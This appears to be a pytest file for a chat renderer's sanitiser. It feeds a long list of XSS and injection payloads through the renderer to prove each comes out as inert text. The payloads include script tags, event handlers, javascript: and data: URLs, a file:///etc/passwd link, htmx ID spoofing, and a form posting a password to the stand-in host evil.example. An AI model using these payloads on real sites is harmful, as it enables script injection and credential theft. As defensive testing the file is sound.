"""Nothing that a model writes runs, loads, poses as a control, or takes a name of ours."""

import re
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from conversations.rendering import Growing, render
from conversations.rendering.sanitise import sanitise

from .page import Node, parse

ATTACKS = r"""
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="https://evil.example"></object><embed src="https://evil.example">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<link rel=stylesheet href=https://evil.example/a.css>
<style>*{background:url(https://evil.example)}</style>
<form action="https://evil.example"><input name=password><button>Go</button></form>
<a href="javascript:alert(1)" id=composer class=button style="position:fixed">x</a>
<div hx-get="/logout" hx-trigger="load" hx-swap-oob="true" id="m-open" data-open>x</div>
<div style="position:fixed;inset:0">x</div>
<video src=https://evil.example autoplay><audio src=https://evil.example>
<body onload=alert(1)>
</div></article><script>alert(1)</script>
</template><script>alert(1)</script>
<head><title>x</title></head>
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](<java&#10;script:alert(1)>)
[x](&#106;avascript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:msgbox(1))
[x](file:///etc/passwd)
[x](//evil.example)
[x](/logout)
[x](#composer)
[x](http://a.example "onmouseover=alert(1) x")
[x](http://a.example/"onmouseover="alert(1))
[x](<http://a.example/" onmouseover="alert(1)>)
<javascript:alert(1)>
<http://a.example/"onclick=alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x](data:image/png;base64,iVBORw0KGgo=)
![x](https://evil.example/track.png)
![" onerror="alert(1)](https://evil.example/track.png)
![<script>alert(1)</script>](https://evil.example/track.png "<script>")
[![x](https://evil.example/track.png)](javascript:alert(1))
[a]: javascript:alert(1)
``` "><script>alert(1)</script>
``` x" onclick="alert(1)
~~~ m-open" id="m-open
$\href{javascript:alert(1)}{x}$
$\style{position:fixed}{x}$
$\class{button}{x}$
$\text{</math><script>alert(1)</script>}$
$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$
$$\unicode{x3c}script>alert(1)</script>$$
\[<img src=x onerror=alert(1)>\]
[^"><script>alert(1)</script>]
[^composer]: x
| <script>alert(1)</script> | [x](javascript:alert(1)) |
- [ ] <input type=checkbox>
# <a name=composer id=composer>x</a>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
""".strip().splitlines()

FRAMES = ("{}", "- {}\n- x", "> {}", "| a |\n|---|\n| {} |", "a\n{}\nb", "**{}**", "```\n{}\n```")
MADE_FROM = "".join(ATTACKS)

ELEMENTS = """
a blockquote br code del div em figure h1 h2 h3 h4 h5 h6 hr li ol p pre section span strong
sup table tbody td th thead tr ul
"""
ATTRIBUTES = """
align class data-done data-host data-language data-open dir href id rel start tabindex target
title
"""
CLASSES = """
a b c code f footnote-back footnotes gd gh gi image k m math math-source o plain s t table
task v
"""
IDS = re.compile(r"m-(open|c\d+|fn-\d+|fnref-\d+(-\d+)?)")
LINKS = re.compile(r"https?://|mailto:|#m-fn(ref)?-\d", re.IGNORECASE)


def check(html: str) -> None:
    for node in parse(html).walk():
        check_node(node)


def check_node(node: Node) -> None:
    names = node.attributes
    if "href" in names:
        assert node.tag == "a"
        assert LINKS.match(names["href"]), names["href"]
        assert names["href"].startswith("#") or names["rel"] == "noopener noreferrer nofollow"
    assert IDS.fullmatch(names.get("id", "m-open")), names["id"]
    assert set(names.get("class", "").split()) <= set(CLASSES.split())
    if is_maths(node):
        assert not {"style", "href", "src"} & set(names)
        assert not any(name.startswith("on") for name in names)
        return
    assert node.tag in ELEMENTS.split(), node.tag
    assert set(names) <= set(ATTRIBUTES.split()), names


def is_maths(node: Node | None) -> bool:
    return node is not None and (node.tag == "math" or is_maths(node.parent))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_text(attack: str) -> None:
    for frame in FRAMES:
        text = frame.format(attack)
        check(render(text, "m"))
        for end in range(len(text) + 1):
            growing = Growing("m")
            growing.feed(text[:end])
            check(growing.html())


def test_raw_html_is_shown() -> None:
    html = render('<p onclick="x()">a</p> <script>b</script>', "m")
    shown = re.sub("<[^>]*>", "", html)
    assert unescape(shown) == '<p onclick="x()">a</p> <script>b</script>'


@given(st.lists(st.sampled_from(ATTACKS) | st.text(MADE_FROM, max_size=30), max_size=6))
def test_no_mixture_of_attacks_does_harm(pieces: list[str]) -> None:
    text = "\n".join(pieces)
    check(render(text, "m"))
    growing = Growing("m")
    growing.feed(text)
    check(growing.html())


@given(st.text())
def test_any_text_can_be_rendered(text: str) -> None:
    check(render(text, "m"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_do(attack: str) -> None:
    html = sanitise(attack)
    assert not re.search(r"<(?!/?(a|p|div|h1|math|mtext|span)\b)[a-z]", html), html
    assert not re.search(r"<[^>]* (on\w+|style|src|id|hx-[\w-]+|name)=", html), html
    assert not re.search(r'href="(?!https?:|mailto:)', html), html


def test_a_prefix_must_be_a_name() -> None:
    with pytest.raises(ValueError, match="cannot begin"):
        Growing('x" onclick="y')
